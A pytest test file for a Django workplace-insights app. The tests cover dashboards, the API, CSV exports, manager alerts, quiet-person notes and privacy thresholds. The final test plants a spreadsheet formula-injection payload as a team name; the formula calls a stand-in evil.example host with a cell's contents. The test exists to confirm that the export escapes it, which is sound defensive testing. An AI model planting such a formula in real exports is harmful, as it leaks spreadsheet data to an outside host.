"""Insight pages, API, CSV, alerts and quiet notes, through views and services."""

import csv
import datetime as dt
import io
import itertools

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from connection.calendar import monday
from connection.models import Nudge, OrgSettings, Signal, Team
from insights import reference as insights_reference
from insights.alerts import send_alerts, send_quiet_notes, team_situation
from insights.dashboards.common import forget_org_wide
from insights.dashboards.team import team_view
from insights.models import ConversationGuide, TeamWeek
from insights.nightly import compute_week
from mentorship.models import Programme
from pulse.services import close_round, open_round, submit_response
from rituals import reference as rituals_reference
from tests.helpers import make_team, make_user, shows_errors

NOW = dt.datetime(2026, 11, 25, 12, 0, tzinfo=dt.UTC)  # a Wednesday
WEEK = monday(NOW.date())
_sources = itertools.count()


def signal(actor, other=None, *, kind=Signal.Kind.RECOGNISED, at=None):
    return Signal.objects.create(
        actor=actor,
        other=other,
        kind=kind,
        occurred_at=at or NOW - dt.timedelta(hours=1),
        team=actor.team,
        source=f"t:{next(_sources)}",
    )


@pytest.fixture
def clock():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def org(db, clock, team, subteam, other_team, alice, bob, charlie, hana):
    """Platform: Alice, Bob and 8 more; Reliability (under Platform): 2; Sales: Charlie + 8."""
    platform = [alice, bob, *(make_user(team=team) for _ in range(8))]
    reliability = [make_user(team=subteam) for _ in range(2)]
    sales = [charlie, *(make_user(team=other_team) for _ in range(8))]
    OrgSettings.load()
    round_ = open_round(now=NOW - dt.timedelta(days=2))
    values = itertools.cycle([5, 3, 4, 5, 3, 2, 4, 5, 3])
    for person in platform + reliability + sales:
        value = next(values)
        answers = {q.pk: (2 * value if q.is_enps else value) for q in round_.questions.all()}
        submit_response(person=person, round_=round_, answers=answers)
    close_round(round_=round_, now=round_.closes_at)
    for a, b in zip(platform, platform[1:], strict=False):
        signal(a, b)
    signal(bob, charlie)
    signal(sales[1], sales[2])
    compute_week(WEEK)
    return {"platform": platform, "reliability": reliability, "sales": sales, "round": round_}


def test_manager_sees_her_team_with_the_score_and_actions(org, client_for, alice, team):
    response = client_for(alice).get("/insights/")
    assert response.status_code == 200
    page = response.content.decode()
    row = TeamWeek.objects.get(team=team, week=WEEK)
    assert row.score_rolling is not None
    assert f"{row.score_rolling:.0f} / 100" in page
    assert "What to do next" in page
    assert "<svg" in page and "<desc" in page  # charts, with a text description
    main = page.split('id="main"', 1)[1]
    assert not [p.display_name for p in org["platform"][1:] if p.display_name in main]


def test_each_action_is_the_next_step_from_what_already_runs(org, client_for, alice, team):
    """Three of four actions were "Start a coffee-chat programme" while one ran for
    the whole organisation: with one running, the action brings the team into it."""
    figures = {f.label: f for f in team_view(team, alice).figures}
    assert figures["People with no one-to-one connection in 90 days"].action[0] == (
        "Host office hours for check-ins"
    )
    silo = figures["Ties reaching outside the team (−1 all within it, +1 all outside)"]
    assert silo.action == ("Start a coffee-chat programme", "/mentorship/programmes/?kind=coffee")
    Programme.objects.create(kind="coffee", name="Coffee chats", cadence_weeks=2)
    figures = {f.label: f for f in team_view(team, alice).figures}
    silo = figures["Ties reaching outside the team (−1 all within it, +1 all outside)"]
    assert silo.action == ("Invite the team to Coffee chats", "/mentorship/")
    labels = [f.action[0] for f in figures.values() if f.action]
    assert len(labels) == len(set(labels)), labels


def test_small_subteam_shows_no_numbers(org, client_for, alice, subteam):
    row = TeamWeek.objects.get(team=subteam, week=WEEK)
    assert row.score is None and row.score_rolling is None and not row.people_shown
    page = client_for(alice).get(f"/insights/?team={subteam.pk}").content.decode()
    assert "Not enough people to show" in page
    assert "/ 100" not in page
    data = client_for(alice).get(f"/api/insights/teams/{subteam.pk}/").json()
    values = {f["label"]: f["value"] for f in data["figures"]}
    assert values["Connection score (latest pulse)"] is None
    assert values["Connected with a colleague this week"] is None
    assert all(v is None for week in data["dimensions"].values() for v in week.values())


@pytest.mark.parametrize("who", ["bob", "charlie"])
def test_people_who_lead_no_team_get_no_dashboard(org, client_for, request, who):
    user = request.getfixturevalue(who)
    assert client_for(user).get("/insights/").status_code == 403
    assert client_for(user).get("/insights/org/").status_code == 403


def test_a_manager_cannot_open_another_team(org, client_for, alice, other_team):
    client = client_for(alice)
    assert client.get(f"/insights/?team={other_team.pk}").status_code == 403
    assert client.get("/insights/?team=abc").status_code == 400
    assert client.get(f"/api/insights/teams/{other_team.pk}/").status_code == 404
    assert client.get("/insights/org/").status_code == 403
    assert client.get("/api/insights/org/").status_code == 403


def test_hr_dashboard_and_csv_are_guarded(org, client_for, hana, subteam):
    client = client_for(hana)
    page = client.get("/insights/org/?level=0").content.decode()
    assert "Organisation insights" in page and "How teams connect" in page
    response = client.get("/insights/org.csv?level=2")
    assert response.status_code == 200
    assert "-level-2.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][-1] == "slice" and rows[1][-1] == "everyone"
    sliced = client.get("/insights/org.csv?level=2&slice=location:remote")
    assert sliced["Content-Disposition"].endswith('-level-2-location-remote.csv"')
    assert list(csv.reader(io.StringIO(sliced.content.decode())))[1][-1] == "location: remote"
    by_team = {row[1]: row for row in rows[1:] if len(row) > 3}
    assert by_team["Reliability"][3] == "not enough responses"
    assert by_team["Reliability"][rows[0].index("connected this week %")] == (
        "not enough responses"
    )
    names = {p.display_name for group in ("platform", "sales") for p in org[group]}
    assert not any(name in response.content.decode() for name in names)
    headers = {row[0] for row in rows if row}
    assert {"programme", "ritual", "budget team"} <= headers  # everything the page shows
    assert client.get("/insights/org/?slice=location:nowhere").status_code == 400


def test_hr_can_slice_by_location(org, client_for, hana, team):
    page = client_for(hana).get("/insights/org/?level=1&slice=location:remote").content.decode()
    assert "Location: Remote" in page


def test_dashboard_queries_do_not_grow_with_the_org(
    org, client_for, alice, hana, django_assert_max_num_queries
):
    def count(client, url):
        forget_org_wide()  # the first view: org-wide tables computed, not kept
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    # Hana gets a team, so Sales is shown and Platform has a partner to name.
    people = make_team(name="People")
    hana.team = people
    hana.save()
    for _ in range(4):
        make_user(team=people)
    compute_week(WEEK)
    client = client_for(alice)
    small_team = count(client, "/insights/")
    client = client_for(hana)
    small_org = count(client, "/insights/org/?level=1")
    for i in range(20):
        extra = make_team(name=f"Extra {i}")
        for _ in range(6):
            signal(make_user(team=extra), org["sales"][0])
    compute_week(WEEK)
    assert count(client_for(alice), "/insights/") == small_team
    assert count(client_for(hana), "/insights/org/?level=1") == small_org
    assert small_team < 30 and small_org < 30


def test_my_connection_is_private(org, client_for, bob, charlie, alice):
    page = client_for(bob).get("/me/connection/").content.decode()
    assert "Charlie Brooks" in page and "Alice Moreau" in page
    data = client_for(charlie).get("/api/me/connection/").json()
    assert [c["name"] for c in data["connections"]] == ["Bob Ferreira"]


# ------------------------------------------------------------------- alerts


def test_situation_rules():
    rule = {"low": 60, "drop": 8}
    assert team_situation(62, [75, 74, 76], 0.4, [0.7, 0.8], **rule) == "falling"
    assert team_situation(55, [58, 57], 0.4, [0.7, 0.8], **rule) == "low"
    # Score fell, but people still connect as much as before: no alert.
    assert team_situation(62, [75, 74, 76], 0.75, [0.7, 0.8], **rule) is None
    # Healthy and steady.
    assert team_situation(74, [75, 74, 76], 0.5, [0.7, 0.8], **rule) is None
    # Not enough history, or a hidden figure: no alert.
    assert team_situation(50, [75], 0.4, [0.7, 0.8], **rule) is None
    assert team_situation(None, [75, 75], 0.4, [0.7, 0.8], **rule) is None
    assert team_situation(50, [75, 75], None, [0.7, 0.8], **rule) is None


def _history(team, scores, actives, *, members=10, shown=True):
    for i, (score, active) in enumerate(zip(scores, actives, strict=True)):
        week = WEEK - dt.timedelta(weeks=len(scores) - 1 - i)
        TeamWeek.objects.update_or_create(
            team=team,
            week=week,
            defaults={
                "score": score,
                "members": members,
                "active_members": active,
                "people_shown": shown,
            },
        )


def test_alert_reaches_the_manager_with_a_guide_and_names_nobody(
    db, clock, team, alice, bob, client_for
):
    _history(team, [76, 75, 77, 74, 62], [8, 9, 8, 8, 4])
    assert send_alerts(WEEK) == 1
    nudge = Nudge.objects.get(kind="manager_alert")
    assert nudge.recipient == alice
    assert nudge.payload["situation"] == ConversationGuide.Situation.FALLING
    text = f"{nudge.title} {nudge.body} {nudge.payload}"
    for person in (alice, bob):
        assert person.display_name not in text
        assert person.display_name.split()[0] not in text
        assert person.email not in text
    assert not any(ch.isdigit() for ch in nudge.title + nudge.body)  # no counts either
    page = client_for(alice).get(nudge.url).content.decode()
    assert "Open the conversation guide" in page
    guide = client_for(alice).get("/insights/guides/falling/").content.decode()
    assert "Don’t" in guide and "Ask" in guide
    # Running again (a second beat) sends nothing new, nor does next week's dip.
    assert send_alerts(WEEK) == 0


def test_no_alert_when_activity_holds_or_the_team_is_small(db, clock, team, alice, other_team):
    _history(team, [76, 75, 77, 74, 62], [8, 9, 8, 8, 8])
    charlie_boss = make_user(team=other_team)
    other_team.managers.add(charlie_boss)
    _history(other_team, [76, 75, 77, 74, 50], [3, 3, 3, 3, 1], members=4, shown=False)
    assert send_alerts(WEEK) == 0
    assert not Nudge.objects.exists()


def test_a_quiet_person_hears_privately_and_others_only_if_they_chose(
    db, clock, team, alice, bob, charlie
):
    dave = make_user(team=team, manager=alice, display_name="Dave Quiet")
    erin = make_user(team=team, manager=alice, display_name="Erin Quiet", quiet_alerts_to="manager")
    for person in (dave, erin):
        signal(person, charlie, at=NOW - dt.timedelta(weeks=4))
    signal(bob, charlie)  # Bob is still active: nothing for him
    assert send_quiet_notes(WEEK) == 3
    tips = Nudge.objects.filter(kind="personal_tip")
    assert {n.recipient for n in tips} == {dave, erin}
    escalated = Nudge.objects.get(kind="colleague_quiet")
    assert escalated.recipient == alice
    assert "Erin Quiet" in escalated.title
    assert not Nudge.objects.filter(payload__icontains="Dave Quiet").exists()
    assert send_quiet_notes(WEEK) == 0


# ------------------------------------------------------------ guard details


def test_behaviour_figures_pass_the_guard():
    from connection import privacy

    assert privacy.people_share(3, 4, 5) is None  # a team of 4
    assert privacy.people_share(5, 10, 5) == 50
    assert privacy.people_share(7, 10, 5) is None  # 3 did not: a small group
    assert privacy.people_share(5, 6, 5) is None  # 85 % of 6 is "one person did not"
    assert privacy.people_share(10, 10, 5) == 100
    assert privacy.people_share(10, 10, 5, shown=False) is None
    assert privacy.headcount(0, 10, 5) == "0"
    assert privacy.headcount(2, 10, 5) == "fewer than 5"
    assert privacy.headcount(6, 10, 5) == "about 5"
    assert privacy.headcount(13, 30, 5) == "about 15"
    assert privacy.headcount(1, 4, 5) is None


def test_isolated_few_reads_fewer_than_k(org, client_for, alice, team):
    def isolated() -> str | None:
        data = client_for(alice).get(f"/api/insights/teams/{team.pk}/").json()
        label = "People with no one-to-one connection in 90 days"
        return next(f["value"] for f in data["figures"] if f["label"] == label)

    TeamWeek.objects.filter(team=team, week=WEEK).update(isolated=2)
    assert isolated() == "fewer than 5"
    TeamWeek.objects.filter(team=team, week=WEEK).update(isolated=0)
    assert isolated() == "0"
    TeamWeek.objects.filter(team=team, week=WEEK).update(isolated=6)
    assert isolated() == "about 5"  # never exact: a sub-team's count could be subtracted


def test_ties_name_only_shown_teams_with_at_least_k_ties(org, client_for, alice, hana, team):
    def ties() -> dict:
        data = client_for(alice).get(f"/api/insights/teams/{team.pk}/").json()
        return {t["team"]: t["ties"] for t in data["ties"]}

    # Sales is hidden (next to Hana, who has no team), so it is not named at all.
    assert not TeamWeek.objects.get(team__name="Sales", week=WEEK).people_shown
    assert ties() == {}
    people = make_team(name="People")
    hana.team = people
    hana.save()
    for _ in range(4):
        make_user(team=people)
    compute_week(WEEK)
    assert TeamWeek.objects.get(team__name="Sales", week=WEEK).people_shown
    assert ties() == {}  # one tie (Bob and Charlie) describes two people: left out
    for a, b in zip(org["platform"][2:7], org["sales"][1:6], strict=True):
        signal(a, b)
    compute_week(WEEK)
    assert ties() == {"Sales": 6}


# ---------------------------------------------------------- which rituals work


def _evidence_org(effect: float, adopters: int):
    from rituals.models import RitualTemplate
    from rituals.services.rituals import adopt_ritual

    template = RitualTemplate.objects.order_by("position").first()
    weeks = [WEEK - dt.timedelta(weeks=i) for i in range(12, -1, -1)]
    adoption = weeks[6]
    for i in range(adopters + 8):
        team = make_team(name=f"Leaf {i}")
        adopting = i < adopters
        if adopting:
            lead = make_user(team=team)
            adopt_ritual(
                team=team,
                created_by=lead,
                name=template.name,
                format=template.format,
                rule=template.default_rule,
                start_time=dt.time(10),
                time_zone="Europe/Lisbon",
                duration=template.default_duration,
                hypothesis="test",
                template=template,
                starts_on=adoption,
                confirm_outside_hours=True,
            )
        for j, week in enumerate(weeks):
            wobble = ((i * 7 + j * 3) % 5) - 2  # deterministic noise of ±2 points
            lift = effect if adopting and week > adoption else 0
            TeamWeek.objects.create(
                team=team, week=week, score=65 + j * 0.3 + wobble + lift, respondents=8
            )
    return template


def test_evidence_card_finds_a_planted_effect(db, clock, client_for, hana):
    rituals_reference.ensure_reference_data()
    template = _evidence_org(effect=10, adopters=6)
    cards = client_for(hana).get("/api/insights/rituals/").json()
    card = next(c for c in cards if c["ritual"] == template.name)
    assert card["verdict"] == "helps"
    assert 8 <= card["effect"] <= 12 and card["low"] > 0
    assert card["adopters"] == 6 and card["respondents"] > 0
    assert len(card["adopted_by"]) == 6 and card["rounds"] > 0
    assert card["trend"] is not None and not card["trend_flagged"] and card["trend_note"]
    page = client_for(hana).get("/insights/rituals/").content.decode()
    assert "Helps" in page and "chose" in page  # the plain words: teams chose to adopt it


def test_evidence_card_says_too_early_with_few_teams(db, clock, client_for, alice, hana):
    rituals_reference.ensure_reference_data()
    template = _evidence_org(effect=10, adopters=2)
    cards = client_for(alice).get("/api/insights/rituals/").json()
    card = next(c for c in cards if c["ritual"] == template.name)
    assert card["verdict"] == "too early to tell"
    assert card["effect"] is None and "2 teams" in card["reason"]


def test_insight_endpoints_are_in_the_schema(db, client_for, bob):
    schema = client_for(bob).get("/api/schema/").content.decode()
    for path in (
        "/api/insights/teams/{id}/",
        "/api/insights/org/",
        "/api/insights/rituals/",
        "/api/me/connection/",
    ):
        assert path in schema, path


def test_hr_edits_a_guide_and_managers_only_read_it(db, client_for, hana, alice):
    insights_reference.ensure_reference_data()
    url = "/insights/guides/low/"
    assert client_for(alice).post(url, {"title": "x"}).status_code == 403
    client = client_for(hana)
    assert "Edit this guide" in client.get(url).content.decode()
    bad = client.post(
        url, {"title": "", "opening": "", "questions": "", "avoid": "", "follow_up": ""}
    )
    assert shows_errors(bad)
    assert ConversationGuide.objects.get(situation="low").title != ""
    fields = {
        "title": "Low connection",
        "opening": "Let's talk.",
        "questions": "One?\nTwo?",
        "avoid": "Blame",
        "follow_up": "Check back",
    }
    assert client.post(url, fields).status_code == 302
    page = client_for(alice).get(url).content.decode()
    assert "Low connection" in page and "<li>Two?</li>" in page
    assert "Edit this guide" not in page
    assert client_for(alice).get("/insights/guides/nope/").status_code == 404


def test_hr_slice_is_judged_inside_each_team_too(org, clock, team):
    """Platform answers as 6 remote, 5 hybrid and 1 in the office: showing both the
    remote and the hybrid figure next to Platform's own would give the one office
    worker's score, so the smaller of the two (hybrid) stays hidden."""
    from insights.dashboards import org_view

    platform = org["platform"] + org["reliability"][:0]
    for person, place in zip(platform, ["remote"] * 6 + ["hybrid"] * 3, strict=False):
        person.location = place
        person.save()
    extra = [make_user(team=team, location="hybrid") for _ in range(2)]
    extra.append(make_user(team=team, location="office"))
    clock.move_to(NOW + dt.timedelta(days=7))
    round_ = open_round(now=NOW + dt.timedelta(days=7))
    answers = itertools.cycle([5, 3, 4, 2, 5, 3])
    for person in [*platform[:9], *extra, *org["sales"]]:
        value = next(answers)
        submit_response(
            person=person,
            round_=round_,
            answers={q.pk: (2 * value if q.is_enps else value) for q in round_.questions.all()},
        )
    close_round(round_=round_, now=round_.closes_at)

    def platform_score(place):
        view = org_view(level=team.depth, slice_by="location", slice_value=place)
        return next(r["score"] for r in view.rows if r["team"] == team)

    assert platform_score("remote") is not None
    assert platform_score("hybrid") is None
    assert platform_score("office") is None


def test_time_to_first_ask_needs_k_newcomers_who_asked(org, client_for, alice, team):
    def median() -> str | None:
        data = client_for(alice).get(f"/api/insights/teams/{team.pk}/").json()
        label = "Newcomers: median days to their first question"
        return next(f["value"] for f in data["figures"] if f["label"] == label)

    TeamWeek.objects.filter(team=team, week=WEEK).update(
        newcomers=6, newcomers_asked=1, first_ask_median_days=3
    )
    assert median() is None  # one newcomer's own days
    TeamWeek.objects.filter(team=team, week=WEEK).update(newcomers_asked=5)
    assert median() == "3"


def test_hr_pages_through_a_level_of_many_teams(org, client_for, hana, department):
    from insights.dashboards import org_view

    for i in range(45):
        make_team(name=f"Squad {i:02}", parent=department)
    compute_week(WEEK)
    client = client_for(hana)
    level = department.depth + 1

    def squads(page: int) -> set[str]:
        html = client.get(f"/insights/org/?level={level}&page={page}").content.decode()
        return {f"Squad {i:02}" for i in range(45) if f">Squad {i:02}<" in html}

    first, second = squads(1), squads(2)
    assert len(first) == 39 and len(second) == 6  # 40 a page, Platform among them
    assert not first & second and len(first | second) == 45
    # Budgets are listed for the teams on the page, not for the whole org.
    from decimal import Decimal

    from connection.models import Team
    from rituals.services.budgets import set_budget

    later = Team.objects.get(name=sorted(second)[0])
    set_budget(team=later, quarter=NOW.date(), hours=Decimal(10), money=Decimal(100))
    view_1 = org_view(level=level, offset=0, limit=40)
    view_2 = org_view(level=level, offset=40, limit=40)
    assert [b["team"] for b in view_2.budgets] == [later] and not view_1.budgets
    far = client.get(f"/insights/org/?level={level}&page=9")
    assert far.status_code == 302 and far.url.endswith("page=2")
    csv_text = client.get(f"/insights/org.csv?level={level}").content.decode()
    assert "Squad 00" in csv_text and "Squad 44" in csv_text


def test_hr_insights_export_escapes_a_formula_team_name(org, client_for, hana, other_team):
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    Team.objects.filter(pk=other_team.pk).update(name=hostile)
    response = client_for(hana).get("/insights/org.csv?level=0")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[1] for row in rows[1:] if len(row) > 3]
    assert "'" + hostile in names
    assert hostile not in names
